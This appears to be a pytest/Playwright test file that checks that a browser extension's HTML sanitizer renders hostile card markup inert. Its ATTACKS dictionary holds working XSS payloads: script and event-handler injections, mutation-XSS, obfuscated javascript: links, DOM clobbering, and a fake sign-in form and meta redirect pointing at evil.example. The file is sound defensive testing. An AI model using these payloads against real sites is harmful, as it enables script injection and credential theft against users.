"""Card bodies that attack render inert. Never trusts the server's own cleaning: the panel gets each attack as it is."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Page

from tests.e2e.chromium import Chromium
from tests.extension.panel_stage import inside

pytestmark = pytest.mark.heavy

# fmt: off
ATTACKS = {
    "script": "<script>globalThis.hit = 1</script>",
    "image-handler": "<img src=x onerror='globalThis.hit = 1'>",
    "image-from-network": "<img src='https://evil.example/pixel.png' alt='a map'>",
    "svg-handler": "<svg><animate onbegin='globalThis.hit = 1' attributeName=x dur=1s></svg>",
    "svg-script": "<svg><script>globalThis.hit = 1</script></svg>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=globalThis.hit=1&gt;'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=globalThis.hit=1>'></noscript>",
    "template": "<template><img src=x onerror='globalThis.hit = 1'></template>",
    "frame": "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "object": "<object data='data:text/html,<script>1</script>'></object>",
    "form": "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "style": "<style>body { display: none }</style><p style='position:fixed;inset:0'>over</p>",
    "link-script": "<a href='javascript:globalThis.hit=1'>click</a>",
    "link-script-hidden": "<a href='java\tscript:globalThis.hit=1'>click</a><a href=' &#1;javascript:hit=1'>click</a>",
    "link-data": "<a href='data:text/html,<script>1</script>'>click</a>",
    "link-extension": "<a href='chrome-extension://x/options.html'>click</a><a href='/options/options.html'>click</a>",
    "clobbering": "<a id=chrome name=browser href='https://example.com'>x</a>"
    "<p id=capture-title class='button primary' data-act=insert>y</p>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
    "css-import": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "video": "<video src='https://evil.example/v.mp4' autoplay onloadstart='globalThis.hit=1'></video><audio src=x>",
    "background": "<table background='https://evil.example/b.png'><tr><td background='https://evil.example/c.png'>x</td></tr></table>",
    "event-attributes": "<p onclick='globalThis.hit=1' onpointerenter='globalThis.hit=1' "
    "tabindex=0 autofocus onfocus='globalThis.hit=1'>x</p>",
    "custom-element": "<x-card onclick='globalThis.hit=1' is=x></x-card>",
    "unclosed": "<p><b><i><a href='https://example.com'>" * 40,
}
# fmt: on
ALLOWED = {"colspan", "href", "lang", "rel", "rowspan", "start", "target", "title"}

SHOW = """async (markup) => {
    const { safeFragment, safeMarkup } = await load("/panel/safe-html.js");
    const box = document.createElement("div");
    box.append(safeFragment(markup));
    document.body.append(box);
    box.querySelectorAll("*").forEach((element) => element.dispatchEvent(new Event("click", { cancelable: true })));
    await new Promise((go) => setTimeout(go, 60));
    const elements = [...box.querySelectorAll("*")];
    const seen = {
        hit: globalThis.hit ?? null,
        tags: elements.map((element) => element.localName),
        attributes: elements.flatMap((element) => element.getAttributeNames()),
        links: elements.filter((element) => element.localName === "a")
            .map((link) => [link.getAttribute("href"), link.target, link.rel]),
        text: box.textContent,
        copied: safeMarkup(markup),
    };
    box.remove();
    return seen;
}"""


@pytest.fixture(scope="module")
def page(browser: Chromium) -> Iterator[Page]:
    opened = browser.extension_page("options/options.html")
    yield opened
    opened.close()


@pytest.fixture
def show(page: Page) -> Callable[[str], Any]:
    return lambda markup: inside(page, SHOW, markup)


@pytest.mark.parametrize("markup", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_in_a_card_is_inert(page: Page, show: Callable[[str], Any], markup: str) -> None:
    outside: list[str] = []
    page.on("request", lambda request: outside.append(request.url))
    seen = show(markup)
    assert seen["hit"] is None
    assert not [url for url in outside if not url.startswith("chrome-extension://")]
    assert not {"img", "script", "svg", "iframe", "form", "input", "button", "style", "object", "link", "meta"} & set(
        seen["tags"]
    )
    assert set(seen["attributes"]) <= ALLOWED
    for href, target, rel in seen["links"]:
        assert href is None or href.startswith(("https://", "http://", "mailto:", "tel:"))
        assert href is None or (target, rel) == ("_blank", "noopener noreferrer")
    assert "onerror" not in seen["copied"]


def test_what_a_card_may_hold_is_kept(show: Callable[[str], Any]) -> None:
    seen = show(
        "<h2>Refund</h2><ol start='3'><li>Open <strong>the order</strong></li></ol><pre><code>E-21</code></pre>"
        "<table><thead><tr><th>Bank</th></tr></thead><tbody><tr><td colspan='2'>3 days</td></tr></tbody></table>"
        "<p lang='ko'>환불 <a href='https://example.com/a?b=c#d' title='policy'>policy</a></p>"
    )
    assert seen["tags"] == [
        *("h2", "ol", "li", "strong", "pre", "code", "table", "thead", "tr", "th", "tbody", "tr", "td", "p", "a")
    ]
    assert seen["links"] == [["https://example.com/a?b=c#d", "_blank", "noopener noreferrer"]]
    assert seen["text"] == "RefundOpen the orderE-21Bank3 days환불 policy"


def test_a_picture_becomes_its_description(show: Callable[[str], Any]) -> None:
    seen = show("<p>Look: <img src='https://evil.example/a.png' alt='the red switch'> there</p>")
    assert seen["text"] == "Look: [the red switch] there"


def test_nothing_at_all_is_an_empty_card(page: Page) -> None:
    assert inside(page, "async () => (await load('/panel/safe-html.js')).safeFragment(null).childNodes.length") == 0
